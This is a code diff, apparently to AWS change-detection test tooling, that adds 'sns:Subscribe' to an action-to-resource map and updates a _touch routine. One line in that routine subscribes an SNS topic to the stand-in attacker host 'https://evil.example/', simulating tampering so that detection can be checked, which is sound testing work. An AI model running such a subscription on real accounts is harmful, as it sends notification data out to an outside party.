@@ -88,6 +88,7 @@ SEEN: Mapping[str, str] = {
     "secretsmanager:CreateSecret": "AWS::SecretsManager::Secret",
     "sns:CreateTopic": "AWS::SNS::Topic",
     "sns:SetTopicAttributes": "AWS::SNS::Topic",
+    "sns:Subscribe": "AWS::SNS::Topic",
     "sqs:CreateQueue": "AWS::SQS::Queue",
     "sqs:SetQueueAttributes": "AWS::SQS::Queue",
     "ssm:PutParameter": "AWS::SSM::Parameter",
@@ -227,7 +228,7 @@ def _touch(client: Client) -> dict[tuple[str, str], str]:
 
     topic = next(one["TopicArn"] for one in client("sns").list_topics()["Topics"])
     client("sns").subscribe(TopicArn=topic, Protocol="https", Endpoint="https://evil.example/")
-    changed["AWS::SNS::Topic", "Subscriptions"] = "alerts"
+    changed["AWS::SNS::Topic", "Subscriptions.https://evil.example/"] = "alerts"
 
     cache = client("elasticache")
     cache.modify_replication_group(ReplicationGroupId=NAME, SnapshotRetentionLimit=9, ApplyImmediately=True)
